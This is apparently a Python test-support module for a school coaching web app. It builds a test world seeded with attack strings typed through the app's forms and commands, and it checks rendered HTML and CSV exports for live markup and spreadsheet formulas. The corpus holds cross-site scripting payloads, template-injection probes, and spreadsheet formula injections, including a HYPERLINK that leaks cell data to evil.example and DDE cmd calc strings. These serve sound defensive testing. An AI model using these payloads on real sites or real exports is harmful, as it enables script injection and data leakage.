"""Shared pieces of the security tests: the payload corpus, the checks on HTML and CSV, a snapshot of the store,
the URL map walker, and one world full of payloads typed in through the app's own pages, forms and commands.

The world is built once per test session (it takes a few seconds: teachers, a grouping, partnerships, agreements)
into a template directory; each test module copies it, so tests that change things never see each other's changes.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
import re
import secrets
import shutil
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import servers
import yaml
from pages import page_fields
from werkzeug.datastructures import MultiDict

from diagnostic import create_app
from diagnostic.cli import cli
from diagnostic.engines.pairing import MODES
from diagnostic.services.accounts import create_user, start_session
from diagnostic.services.cohorts import COHORT_NAME_LIMIT, create_cohort, definition_dirs
from diagnostic.services.demo import PROFILES, teacher_row
from diagnostic.services.journey import hash_secret
from forms.catalog import SHIPPED, find_definition

# -- the corpus ------------------------------------------------------------------------------------------------
# Each payload is at most 80 characters (the shortest limit of a field it goes into) and unique once stripped.
# Payloads that would add an element or an attribute carry an `xss` attribute, so a leak is easy to name.
XSS = [
    '<script>alert("xss")</script>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1) xss>",
    '" onmouseover="alert(1)" xss="',
    "' onfocus='alert(1)' autofocus xss='",
    "javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><svg/onload=alert(1) xss>",
    "{{7*7}} {{ config }} {% print 7*7 %} ${7*7} #{7*7}",
    "<svg xss><script>alert(1)</script></svg>",
    "<svg xss onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    '<a href="javascript:alert(1)" xss>click</a>',
    '<iframe src="javascript:alert(1)" xss></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" xss>',
    '<base href="//evil.example/" xss><style>*{x:expression(alert(1))}</style>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) xss>",
    '<!--<img src="--><img src=x onerror=alert(1) xss>">',
    '<form action="javascript:alert(1)" xss><button>go</button></form>',
    "<details open ontoggle=alert(1) xss>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=&#97;lert(1) xss>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039img\u203a",
    "\u202e<script>alert(1)</script>\u200b<b xss>",
]
# Text a spreadsheet would run. Spaces, tabs and carriage returns first are stripped by the forms (and the
# importer), leaving "=..." behind, which must still be neutralised.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1<script>alert(1)</script>",
    "\t=2+5",
    "\r=3+5",
    "  =4+5",
    "|cmd' /C calc'!A0",
    "%SUM(1+1)",
    # Full-width forms, which some spreadsheets read as the ASCII characters.
    '\uff1dHYPERLINK("http://evil.example/","Click")',
    "\uff0b1+cmd|' /C calc'!A0",
    "\uff0d2+3+cmd|' /C calc'!A0",
    "\uff20SUM(1+1)",
    "\uff5ccmd' /C calc'!A0",
    "\uff05SUM(2+2)",
    # Invisible characters first, which the forms do not strip (they are not whitespace to Python).
    "\u200b=sum(3+3)",
    "\ufeff=sum(4+4)",
    "\u200c\u200d\u2060+5+5",
    "\u200b \uff1d6+6",
]
PAYLOADS = XSS + FORMULAS
# Staff e-mail addresses: no spaces, one @, lower case (the app lower-cases them).
EMAILS = [
    "<script>alert(1)</script>@xss.example",
    '"><svg/onload=alert(1)>@xss.example',
    "'><img/src=x/onerror=alert(1)>@xss.example",
    '"onmouseover="alert(1)"x="@xss.example',
    "{{7*7}}</title><b/xss>@xss.example",
    '=hyperlink("http://evil.example")@xss.example',
]
# Written out here, not imported: the app must meet this rule. A cell is run as a formula when it starts with a tab
# or a carriage return, or when the first character a reader sees (after whitespace and the invisible characters
# below) is one of these, ASCII or full-width.
FORMULA_START = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c", "\uff05", "\t", "\r")
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff"  # zero-width space, non-joiner and joiner, word joiner, byte-order mark
BEFORE_VISIBLE = re.compile(rf"[\s{INVISIBLE}]*")
CSRF_REFUSED = "Your answers were not sent"  # the title of the app's CSRF error page
MAIN = "main"


def norm(text: str) -> str:
    """Text with runs of whitespace made one space, as the app and a reader see it."""
    return " ".join(text.split())


# -- reading HTML ----------------------------------------------------------------------------------------------
class Page(HTMLParser):
    """A page as the standard library's HTML parser reads it: its elements, text and forms."""

    def __init__(self, text: str, url: str = "/"):
        super().__init__(convert_charrefs=True)
        self.url = url
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.chunks: list[str] = []
        self.forms: list[dict[str, Any]] = []
        self._form: dict[str, Any] | None = None
        self._textarea: list[Any] | None = None
        self._select: list[Any] | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(attrs)))
        found = dict(attrs)
        if tag == "form":
            action = found.get("action") or self.url
            self._form = {"action": action, "method": (found.get("method") or "get").lower(), "fields": []}
            self.forms.append(self._form)
        elif tag == "option" and self._select is not None:
            self._select[1].append(found.get("value") or "")
            if "selected" in found:
                self._select[2].append(found.get("value") or "")
        elif self._form is None or "name" not in found:
            return
        elif tag == "input":
            kind = (found.get("type") or "text").lower()
            if kind in ("submit", "button", "image", "reset", "file"):
                return
            if kind in ("radio", "checkbox"):
                self._form.setdefault("choices", {}).setdefault(found["name"], []).append(found.get("value") or "on")
                if "checked" in found:
                    self._form["fields"].append((found["name"], found.get("value") or "on"))
            else:
                self._form["fields"].append((found["name"], found.get("value") or ""))
                if not found.get("value"):
                    self._form.setdefault("empty", []).append((found["name"], kind))
        elif tag == "textarea":
            self._textarea = [found["name"], []]
        elif tag == "select":
            self._select = [found["name"], [], [], "multiple" in found]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "textarea" and self._textarea is not None and self._form is not None:
            self._form["fields"].append((self._textarea[0], "".join(self._textarea[1]).removeprefix("\n")))
            self._textarea = None
        elif tag == "select" and self._select is not None and self._form is not None:
            name, options, chosen, multiple = self._select
            picked = chosen or ([] if multiple or not options else [options[0]])
            self._form["fields"] += [(name, v) for v in picked]
            self._form.setdefault("choices", {})[name] = options
            self._select = None

    def handle_data(self, data: str) -> None:
        self.chunks.append(data)
        if self._textarea is not None:
            self._textarea[1].append(data)

    def text(self) -> str:
        return norm("".join(self.chunks))

    def shows(self, payload: str) -> bool:
        """Whether the payload is on the page as text a reader sees, or as the value of an attribute."""
        wanted = norm(payload)
        return wanted in self.text() or any(wanted in norm(v or "") for _, attrs in self.elements for _, v in attrs)

    def form(self, action: str) -> dict[str, Any]:
        """The form that posts to `action` (a path), as a browser would send it unchanged."""
        for found in self.forms:
            if found["method"] == "post" and urlsplit(found["action"]).path == urlsplit(action).path:
                return found
        raise AssertionError(f"no form posting to {action} on {self.url}")


def _elements_of(text: str) -> set[tuple[str, tuple]]:
    return set(Page(text).elements)


PAYLOAD_ELEMENTS = {e: p for p in PAYLOADS + EMAILS for e in _elements_of(p)}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcdoc"}
NEVER = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base"}


# The app's own scripts: a file it serves from /static/, loaded with `defer`, nothing else (the CSP allows no more).
OWN_SCRIPT = re.compile(r"^/static/[a-z_]+\.js$")


def _own_script(tag: str, attrs: tuple) -> bool:
    named = dict(attrs)
    return tag == "script" and set(named) == {"src", "defer"} and bool(OWN_SCRIPT.match(named["src"] or ""))


def live_markup(text: str, url: str = "/") -> list[str]:
    """Everything on an HTML page that would run or change it: scripts, handlers, script URLs, payload markup."""
    found = []
    for tag, attrs in Page(text, url).elements:
        if tag in NEVER and not _own_script(tag, attrs):
            found.append(f"<{tag}> element")
        if tag == "meta" and any(n == "http-equiv" for n, _ in attrs):
            found.append("<meta http-equiv> element")
        if (tag, attrs) in PAYLOAD_ELEMENTS:
            found.append(f"<{tag}> element from the payload {PAYLOAD_ELEMENTS[(tag, attrs)]!r}")
        if "xss" in tag:
            found.append(f"<{tag}> element")
        for name, value in attrs:
            squeezed = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on"):
                found.append(f"{name}= on <{tag}>")
            if "xss" in name:
                found.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "vbscript:", "data:text/html")):
                found.append(f"{name}={value!r} on <{tag}>")
            if name == "content" and "javascript:" in squeezed:
                found.append(f"content={value!r} on <{tag}>")
    return found


# -- reading CSV -----------------------------------------------------------------------------------------------
def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet would run this text as a formula (FORMULA_START above)."""
    visible = text[BEFORE_VISIBLE.match(text).end():]
    return text.startswith(("\t", "\r")) or visible.startswith(FORMULA_START)


def formula_cells(body: str) -> list[tuple[int, int, str]]:
    """(row, column, cell) for every cell a spreadsheet would run as a formula (numbers like -0.4 are data)."""
    rows = list(csv.reader(io.StringIO(body, newline="")))
    return [(r, c, cell) for r, row in enumerate(rows) for c, cell in enumerate(row)
            if starts_formula(cell) and not is_number(cell)]


def cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]


# -- the store -------------------------------------------------------------------------------------------------
def snapshot(data_dir: Path | str) -> dict[str, bytes]:
    """Every file under DATA/store/ and its bytes (lock files are not data: reading a table creates one)."""
    root = Path(data_dir) / "store"
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.name.endswith(".lock")}


def changed_files(before: dict[str, bytes], after: dict[str, bytes]) -> list[str]:
    return sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))


# -- browsers --------------------------------------------------------------------------------------------------
TOKEN = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"|value="([^"]+)"[^>]*name="csrf_token"')


def csrf(text: str) -> str:
    match = TOKEN.search(text)
    assert match, "no CSRF token on the page"
    return match.group(1) or match.group(2)


def staff_browser(app, role: str, email: str, cohorts=()):  # noqa: ANN001, ANN201
    """A browser signed in as a new staff account (the session set as the sign-in page would set it)."""
    store = app.extensions["store"]
    with app.app_context():
        user = create_user(store, email, role, list(cohorts))
        token = start_session(store, user)
    browser = app.test_client()
    with browser.session_transaction() as session:
        session["_user_id"], session["_fresh"] = f"{user['id']}:{token}", True
    return browser


def browser(app, cookie: str | None):  # noqa: ANN001, ANN201
    """A new browser holding this session cookie (None: nobody)."""
    client = app.test_client()
    if cookie:
        client.set_cookie(app.config.get("SESSION_COOKIE_NAME", "session"), cookie)
    return client


def cookie_of(client) -> str:  # noqa: ANN001
    return client.get_cookie("session").value


# -- the URL map -----------------------------------------------------------------------------------------------
STATE_CHANGING = {"POST", "PUT", "PATCH", "DELETE"}


def url_map_rules(app, methods: set[str]) -> list:  # noqa: ANN001
    """The app's URL rules that accept any of `methods`, in a stable order."""
    return sorted((r for r in app.url_map.iter_rules() if r.methods & methods), key=lambda r: (r.rule, r.endpoint))


def rules_now(methods: set[str]) -> list[tuple[str, str]]:
    """(endpoint, rule) of the app as built now, for parametrising tests at collection time."""
    import tempfile

    with tempfile.TemporaryDirectory() as data:
        app = create_app({"TESTING": True, "DATA": data})
        return [(r.endpoint, r.rule) for r in url_map_rules(app, methods)]


def url_values(world: dict[str, Any]) -> dict[str, list[str]]:
    """The values each URL argument takes in the world: the small table a new rule may need a line in."""
    return {
        "cohort_id": [world.get("cohort", MAIN)], "mode": list(MODES), "key": world["groups"],
        "partnership_id": [world["pair"]], "user_id": [u["id"] for u in world["users"][:2]],
        "invite": [world["invite"]],
        "token": [world["teacher"]["token"]], "number": [str(n) for n in range(1, world["pages"] + 1)],
        "name": ["members.csv", "profiles.csv", "grouping.json"], "filename": ["style.css"],
        "response_id": [world["teachers"][0]["id"], world["teacher"]["id"]], "earlier_id": ["1"],
        "entry_id": world["entries"], "job_id": world["jobs"],
    }


def query_for(world: dict[str, Any], endpoint: str, values: dict[str, str]) -> str:
    """Query strings some pages need (who to move)."""
    if endpoint == "coordinator.move_teacher":
        return "?teacher=" + quote(world["waiting"].get(values["mode"], world["late"]))
    return ""


def urls(world: dict[str, Any], endpoint: str, rule: str, **given: str) -> list[tuple[str, dict[str, str]]]:
    """Every URL of this rule in the world (`given` arguments fixed); a rule with an unknown argument fails by name."""
    names = re.findall(r"<(?:[^:<>]+:)?([^<>]+)>", rule)
    table = {**url_values(world), **{name: [value] for name, value in given.items()}}
    unknown = [n for n in names if n not in table]
    if unknown:
        raise AssertionError(f"rule {rule} ({endpoint}) takes <{unknown[0]}>, which tests/security_corpus.py "
                             "does not know: add its values to url_values()")
    found = []
    for combo in itertools.product(*(table[n] for n in names)):
        values = dict(zip(names, combo, strict=True))
        path = re.sub(r"<(?:[^:<>]+:)?([^<>]+)>", lambda m: quote(values[m.group(1)], safe=""), rule)  # noqa: B023
        found.append((path + query_for(world, endpoint, values), values))
    return found


def who_for(endpoint: str) -> str:
    """The browser that may use a route: teachers' pages need a private link, staff pages a staff session."""
    if endpoint.startswith("teacher.") or endpoint == "home":
        return "teacher"
    if endpoint.startswith("auth.sign_in") or endpoint == "static":
        return "anonymous"
    return "admin"


# -- the world -------------------------------------------------------------------------------------------------
def _shipped(data_dir: Path, form_id: str = "starting_point"):  # noqa: ANN202
    definition, _ = find_definition(form_id, None, definition_dirs(data_dir))
    return definition


REVISION = re.compile(r'name="revision" type="hidden" value="(\d+)"')


def teacher_cells(definition, n: int, payload: str, school: str) -> dict[str, str]:  # noqa: ANN001
    """A valid teacher's answers as CSV cells, with the payload in every free-text answer; a confident coach."""
    row = {"respondent": payload, "school": school, **teacher_row(definition, PROFILES[n % 4], random.Random(n))}
    row.update(role="other", role_other=payload, focus_goal=payload, teacher_name=payload, coaching_notes=payload,
               coaching_role="both")
    row[f"confidence_{row['focus_choice'].split(';')[0]}"] = "5"
    return row


def _texts() -> Any:
    return itertools.cycle([p for p in PAYLOADS if p.strip() == p])


def hostile_menu() -> str:
    """The shipped menu of learning focuses with a payload for every title and piece of advice."""
    data = yaml.safe_load((SHIPPED / "learning-focuses.yaml").read_text(encoding="utf-8"))
    data.update(id="hostile_focuses", title=XSS[1])
    texts = _texts()
    for f in data["focuses"]:
        f.update(title=next(texts), description=next(texts), lighter_start=next(texts),
                 specialist_input=[next(texts), next(texts)], peer_activities=[next(texts)])
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def hostile_definition() -> str:
    """The shipped questionnaire with a payload for every title, prompt, hint, label and sentence an admin writes."""
    data = yaml.safe_load((SHIPPED / "starting-point.yaml").read_text(encoding="utf-8"))
    data.update(id="hostile", version="1", title=XSS[0], description=XSS[3], menu="hostile-focuses")
    texts = _texts()
    for scale in data["scales"].values():
        scale["labels"] = {k: next(texts) for k in scale["labels"]}
    for c in (c for options in data["choice_lists"].values() for c in options):
        c["label"] = next(texts)
    for section in data["sections"]:
        section.update(title=next(texts), **({"intro": next(texts)} if "intro" in section else {}))
        for q in section["questions"]:
            q.update(prompt=next(texts), hint=next(texts))
            for item in q.get("items") or []:
                item["text"] = next(texts)
            if isinstance(q.get("items_from_menu"), dict):
                q["items_from_menu"]["text"] = f"{next(texts)} {{title}}"
    for c in data["constructs"]:
        c.update(label=next(texts), description=next(texts), low=next(texts), high=next(texts))
    for block in data["grouping"]["blocks"]:
        block["label"] = next(texts)
        for end in ("high", "low"):
            if end in block:
                block[end] = f"{next(texts)} {{item}}" if "{item}" in block[end] else next(texts)
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


class Builder:
    """Types the corpus into every free-text field through the app, keeping every page it is shown on the way."""

    def __init__(self, data_dir: Path):
        self.data = data_dir
        self.app = create_app({"TESTING": True, "DATA": str(data_dir)})
        self.store = self.app.extensions["store"]
        self.definition = _shipped(data_dir)
        self.seen: list[dict[str, Any]] = []

    def keep(self, label: str, response):  # noqa: ANN001, ANN201
        if response.mimetype == "text/html":
            self.seen.append({"label": label, "status": response.status_code,
                              "problems": live_markup(response.text, label)})
        return response

    def post(self, client, url: str, data, label: str | None = None, follow: bool = True):  # noqa: ANN001, ANN201
        return self.keep(label or f"POST {url}", client.post(url, data=data, follow_redirects=follow))

    def get(self, client, url: str):  # noqa: ANN001, ANN201
        return self.keep(f"GET {url}", client.get(url))

    def teacher(self, token: str):  # noqa: ANN201
        client = self.app.test_client()
        assert client.get(f"/resume/{token}").status_code == 302
        return client

    def journey(self, school: str, row: dict[str, str], submit: bool = True, cohort_id: str = MAIN):  # noqa: ANN201
        """A teacher who opens the invitation and answers every page in the browser; their private link."""
        client = self.app.test_client()
        cohort = self.store.get_cohort(cohort_id)
        start = self.get(client, f"/join/{cohort['invite']}")
        started = self.post(client, f"/join/{cohort['invite']}", {"csrf_token": csrf(start.text), "school": school},
                            follow=False)
        assert started.status_code == 302, started.text
        token = started.location.split("/resume/", 1)[1].split("?", 1)[0]  # the link, shown once
        for number, section in enumerate(self.definition.sections, start=1):
            page = client.get(f"/questionnaire/page/{number}")
            if page.status_code == 302:
                continue
            for _ in range(2):  # a second press goes past the soft-required warning
                html = self.get(client, f"/questionnaire/page/{number}").text
                data = MultiDict([("csrf_token", csrf(html)), ("revision", REVISION.search(html).group(1)),
                                  *page_fields(section, row)])
                answer = self.post(client, f"/questionnaire/page/{number}", data, follow=False)
                assert answer.status_code == 302, answer.text
                if "check=1" not in answer.location:
                    break
            if not submit:
                return client, token
        review = self.get(client, "/questionnaire/review")
        done = self.post(client, "/questionnaire/submit", {"csrf_token": csrf(review.text),
                                                            "revision": REVISION.search(review.text).group(1)})
        assert done.status_code == 200 and "submitted" in done.text, done.text[:500]
        return client, token

    def import_rows(self, cohort_id: str, rows: list[dict[str, str]]) -> None:
        """Import rows with `diagnostic import-responses`, as a coordinator would."""
        header = ["respondent", "school", *self.definition.answer_ids()]
        path = self.data.parent / f"answers-{cohort_id}.csv"
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(header)
            writer.writerows([[row.get(h, "") for h in header] for row in rows])
        imported = self.app.test_cli_runner().invoke(cli, ["import-responses", "--cohort", cohort_id, str(path)])
        assert imported.exit_code == 0, imported.output

    def hostile(self, admin) -> dict[str, Any]:  # noqa: ANN001
        """An admin uploads a questionnaire and menu written with payloads and starts a cohort on it in the browser."""
        for name, text in (("hostile-focuses.yaml", hostile_menu()), (f"{XSS[2]}.yaml", hostile_definition())):
            page = self.get(admin, "/admin/definitions")
            added = self.post(admin, "/admin/definitions", {"csrf_token": csrf(page.text),
                                                            "file": (io.BytesIO(text.encode()), name)})
            assert added.status_code == 200 and "Added" in added.text, added.text[:2000]
        schools = [p.strip() for p in XSS[:4]]
        page = self.get(admin, "/admin/cohorts")
        made = self.post(admin, "/admin/cohorts", {"csrf_token": csrf(page.text), "cohort-name": XSS[5],
                                                   "cohort-form": "hostile|1", "cohort-schools": "\n".join(schools)})
        assert made.status_code == 200 and "Created" in made.text, made.text[:2000]
        cohort = next(c for c in self.store.list_cohorts() if c["form_id"] == "hostile")
        self.import_rows(cohort["id"], [teacher_cells(self.definition, 200 + n, p, schools[n % len(schools)])
                                        for n, p in enumerate(XSS[:16])])
        client, token = self.journey(schools[0], teacher_cells(self.definition, 300, XSS[7], ""),
                                     cohort_id=cohort["id"])
        self.get(client, "/questionnaire/menu")
        base = f"/specialist/cohorts/{cohort['id']}"
        page = self.get(admin, f"{base}/")
        grouped = self.post(admin, f"{base}/regroup", {"csrf_token": csrf(page.text), "k": "2", "method": "kmeans"})
        assert grouped.status_code == 200, grouped.text[:500]
        with client.session_transaction() as session:
            me = session["response"][1]
        return {"id": cohort["id"], "invite": cohort["invite"], "cookie": cookie_of(client),
                "groups": [g["key"] for g in self.store.load_grouping(cohort["id"])["groups"]],
                "teacher": {"id": me, "token": token, "payload": XSS[7]}, "waiting": dict.fromkeys(MODES, me)}

    def build(self) -> dict[str, Any]:
        app, store, definition = self.app, self.store, self.definition
        admin = staff_browser(app, "admin", EMAILS[0])
        schools = list(dict.fromkeys(p.strip() for p in PAYLOADS))
        # As long a name as a cohort may have; every payload is also the whole name of a cohort of its own below.
        cohort = create_cohort(store, definition, " ".join(PAYLOADS)[:COHORT_NAME_LIMIT], schools, cohort_id=MAIN)
        closed = date.today() - timedelta(days=1)
        extra = [create_cohort(store, definition, p, [p.strip(), "Plain school"], closed, cohort_id=f"x{n}")
                 for n, p in enumerate(PAYLOADS)]
        made = app.test_cli_runner().invoke(cli, ["cohort", "create", "--name", XSS[1], "--form", "starting_point",
                                                  "--schools", f"{XSS[2]},{FORMULAS[0].split(',')[0]}"])
        assert made.exit_code == 0, made.output
        extra.append(store.get_cohort(re.search(r"^cohort: (\S+)$", made.output, re.M).group(1)))
        specialist = staff_browser(app, "specialist", EMAILS[1], [MAIN])
        coordinator = staff_browser(app, "coordinator", EMAILS[2], [MAIN])

        # Staff accounts an admin adds on the accounts page.
        for email in EMAILS[3:]:
            page = self.get(admin, "/admin/users")
            self.post(admin, "/admin/users", {"csrf_token": csrf(page.text), "add-email": email,
                                              "add-role": "specialist", "add-cohorts": [MAIN, extra[0]["id"]]})
        users = [{"id": u["id"], "email": u["email"]} for u in store.list_users()]
        users.sort(key=lambda u: EMAILS.index(u["email"]) if u["email"] in EMAILS else 99)

        # Teachers imported from CSV with the command: a payload in every free-text cell and as their reference.
        rows = [teacher_cells(definition, n, p, schools[n % len(schools)]) for n, p in enumerate(PAYLOADS)]
        self.import_rows(MAIN, rows)
        teachers = []
        for record in store.list_responses(MAIN):
            secret = secrets.token_hex(24)
            store.update_response(MAIN, record["id"], lambda r, s=secret: {**r, "token_hash": hash_secret(s)})
            teachers.append({"id": record["id"], "payload": record["respondent"],
                             "token": f"{MAIN}.{record['id']}.{secret}"})
        teachers.sort(key=lambda t: [p.strip() for p in PAYLOADS].index(t["payload"]))

        # Two teachers answer every page in the browser; one more stops after the first page.
        web_rows = [teacher_cells(definition, 100 + n, p, schools[n]) for n, p in enumerate((XSS[6], XSS[16]))]
        web, web_token = self.journey(schools[0], web_rows[0])
        draft, draft_token = self.journey(schools[3], {**web_rows[0], "role_other": XSS[1]}, submit=False)
        self.get(draft, "/questionnaire/page/1")

        # Every teacher writes their goal on the menu page.
        first_focus = {row["respondent"].strip(): row["focus_choice"].split(";")[0] for row in rows}
        for t in teachers:
            client = self.teacher(t["token"])
            page = self.get(client, "/questionnaire/menu")
            focus = first_focus[t["payload"]]
            self.post(client, "/questionnaire/menu", {"csrf_token": csrf(page.text), "focus": focus,
                                                      "goal": t["payload"]})

        # The specialist groups the cohort and names each group, with a note.
        base = f"/specialist/cohorts/{MAIN}"
        overview = self.get(admin, f"{base}/")
        grouped = self.post(admin, f"{base}/regroup", {"csrf_token": csrf(overview.text), "k": "3",
                                                       "method": "kmeans"})
        assert grouped.status_code == 200, grouped.text[:500]
        keys = [g["key"] for g in store.load_grouping(MAIN)["groups"]]
        names = [FORMULAS[0], XSS[2], FORMULAS[1], XSS[0], XSS[3], XSS[7], XSS[8], XSS[13]]
        note = "\n".join(PAYLOADS)[:2000]
        for key, name in zip(keys, names, strict=False):
            page = self.get(admin, f"{base}/groups/{key}")
            self.post(admin, f"{base}/groups/{key}", {"csrf_token": csrf(page.text), "name": name,
                                                      "note": f"{FORMULAS[3]} {note}"})

        # The coordinator lists specialists (and one internal expert), proposes, adjusts and confirms.
        base = f"/coordinator/cohorts/{MAIN}"
        focuses = [f.id for f in definition.learning_focuses.focuses]
        for n, name in enumerate(PAYLOADS):
            page = self.get(coordinator, f"{base}/specialists")
            internal = {"kind": "internal", "respondent": teachers[1]["id"]} if n == 0 else {"kind": "specialist"}
            added = self.post(coordinator, f"{base}/specialists", {"csrf_token": csrf(page.text), "name": name,
                                                                   "expertise": focuses, "capacity": "2", **internal})
            assert added.status_code == 200, added.text[:500]
        token = csrf(self.get(coordinator, f"{base}/partnerships/co-coaching").text)
        runs = {"co-coaching": {"school_rule": "any", "relax_focus": "y"}, "specialist": {"by": "teacher"},
                "mentoring": {"school_rule": "any", "capacity": "2"}}
        for mode, options in runs.items():
            ran = self.post(coordinator, f"{base}/partnerships/{mode}/run", {"csrf_token": token, **options})
            assert ran.status_code == 200, ran.text[:500]
            proposal = store.pairing_state(MAIN, mode)["proposal"]
            if mode == "mentoring":
                pair = proposal["pairs"][0]["members"]
                self.post(coordinator, f"{base}/partnerships/{mode}/lock", {"csrf_token": token, "people": pair})
                self.post(coordinator, f"{base}/partnerships/{mode}/forbid",
                          {"csrf_token": token, "people": [teachers[2]["id"], teachers[3]["id"]]})
                continue
            done = self.post(coordinator, f"{base}/partnerships/{mode}/confirm",
                             {"csrf_token": token, "proposal": proposal["id"], "sure": "yes"})
            assert done.status_code == 200 and "Confirmed" in done.text, done.text[:500]

        # Partners fill in their learning agreements: a payload in every free-text answer.
        by_id = {t["id"]: t for t in teachers}
        agreement = _shipped(self.data, "learning_agreement")
        texts = [q.id for q in agreement.questions() if q.type in ("short_text", "long_text")]
        pairs = [p for p in store.list_partnerships(MAIN) if p["mode"] == "co-coaching"]
        for n, partnership in enumerate(pairs):
            member = next((by_id[m] for m in partnership["members"] if m in by_id), None)
            if member is None:
                continue
            client = self.teacher(member["token"])
            url = f"/questionnaire/agreement/{partnership['id']}"
            page = self.get(client, url)
            answers = {q: PAYLOADS[(n + i) % len(PAYLOADS)] for i, q in enumerate(texts)}
            saved = self.post(client, url, {"csrf_token": csrf(page.text), "revision": REVISION.search(page.text)
                                            .group(1), **answers, "keep_track": "log"})
            assert saved.status_code == 200, saved.text[:500]
        teacher = next(t for t in teachers if any(t["id"] in p["members"] for p in pairs))
        pair = next(p["id"] for p in pairs if teacher["id"] in p["members"])

        # The teacher writes in their partnership's coaching log: a payload in every field of an observation.
        entries = []
        if "teacher.coaching_log_page" in app.view_functions:
            client = self.teacher(teacher["token"])
            url = f"/questionnaire/log/{pair}"
            page = self.get(client, url)
            fields = {name: PAYLOADS[i % len(PAYLOADS)]
                      for i, name in enumerate(("strategy", "pupils", "prior_knowledge"))}
            saved = self.post(client, url, {"csrf_token": csrf(page.text), "kind": "observation",
                                            "on": date.today().isoformat(), **fields})
            assert saved.status_code == 200, saved.text[:500]
            entries = [e["id"] for e in store.log_entries(MAIN, pair)]

        # A teacher who submits after the grouping and the partnerships: placed late, waiting in every mode.
        late, late_token = self.journey(schools[1], web_rows[1])
        confirmed = {mode: {m for p in store.list_partnerships(MAIN) if p["mode"] == mode for m in p["members"]}
                     for mode in MODES}
        with late.session_transaction() as session:
            late_id = session["response"][1]

        # A teacher asks for their data to be erased; the admin opens the request (the step before erasing).
        if "teacher.ask_for_erasure" in app.view_functions:
            asking = self.teacher(teachers[4]["token"])
            page = self.get(asking, "/questionnaire/my-data/delete")
            self.post(asking, "/questionnaire/my-data/delete", {"csrf_token": csrf(page.text), "confirm": "yes"})
            page = self.get(admin, "/admin/erasure")
            self.post(admin, "/admin/erasure", {"csrf_token": csrf(page.text), "erase-cohort": MAIN,
                                                "erase-reference": teachers[4]["payload"]})
        waiting = {mode: late_id for mode in MODES}
        assert all(late_id not in confirmed[mode] for mode in MODES)

        hostile = self.hostile(admin) if "admin.definitions" in app.view_functions else None
        # A background pairing run that failed, its reason quoting what was typed (a refused run names teachers).
        stamp = "2026-12-01T10:00:00+00:00"
        job = store.add_job({"id": "job-1", "cohort": MAIN, "kind": "pairing", "subject": "co-coaching",
                             "actor": EMAILS[2], "status": "failed", "step": " ".join(XSS), "outcome": " ".join(XSS),
                             "started_at": stamp, "heartbeat_at": stamp, "finished_at": stamp})

        return {
            "hostile": hostile,
            "invite": cohort["invite"], "name": cohort["name"], "schools": schools,
            "extra": [{"id": c["id"], "name": c["name"], "invite": c["invite"], "schools": c["schools"]}
                      for c in extra],
            "teachers": teachers, "teacher": teacher, "pair": pair, "web_token": web_token, "late_token": late_token,
            "late": late_id, "waiting": waiting, "groups": keys, "group_names": dict(zip(keys, names, strict=False)),
            "users": users, "pages": len(definition.sections), "agreement_texts": texts, "entries": entries,
            "jobs": [job["id"]],
            "cookies": {"admin": cookie_of(admin), "specialist": cookie_of(specialist),
                        "coordinator": cookie_of(coordinator), "teacher": cookie_of(self.teacher(teacher["token"])),
                        "web": cookie_of(web), "late": cookie_of(late), "draft": cookie_of(draft),
                        "anonymous": None},
            "draft_token": draft_token, "seen": self.seen,
        }


def hostile_view(world: dict[str, Any]) -> dict[str, Any]:
    """The world seen through the cohort on the uploaded questionnaire: its URL values and its teacher."""
    found = world["hostile"]
    return {**world, "cohort": found["id"], "invite": found["invite"], "groups": found["groups"],
            "teacher": found["teacher"], "waiting": found["waiting"],
            "cookies": {**world["cookies"], "teacher": found["cookie"]}}


_TEMPLATE: dict[str, Path] = {}


def template(tmp_path_factory) -> Path:  # noqa: ANN001
    """The world's data directory, built once per test session."""
    if "path" not in _TEMPLATE:
        root = tmp_path_factory.mktemp("security-world")
        world = Builder(root / "data").build()
        (root / "world.json").write_text(json.dumps(world), encoding="utf-8")
        _TEMPLATE["path"] = root
    return _TEMPLATE["path"]


